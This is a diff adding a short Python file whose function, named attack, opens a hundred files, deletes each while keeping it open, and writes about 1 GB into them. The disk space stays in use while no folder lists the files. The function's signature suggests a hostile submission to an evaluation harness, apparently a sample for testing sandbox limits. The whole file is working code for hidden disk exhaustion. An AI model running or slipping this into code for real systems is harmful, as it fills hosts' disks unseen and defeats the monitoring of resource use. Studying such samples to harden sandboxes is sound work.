@@ -1,0 +1,15 @@
+"""Writes 1 GB into files that it has removed already: they take space and no folder lists them."""
+
+import os
+import time
+
+
+def attack(X, y):
+    kept = []
+    for number in range(100):
+        kept.append(open(str(number), "wb", buffering=0))
+        os.remove(str(number))
+        for _ in range(10):
+            kept[-1].write(bytes(1 << 20))
+    time.sleep(1)
+    return True
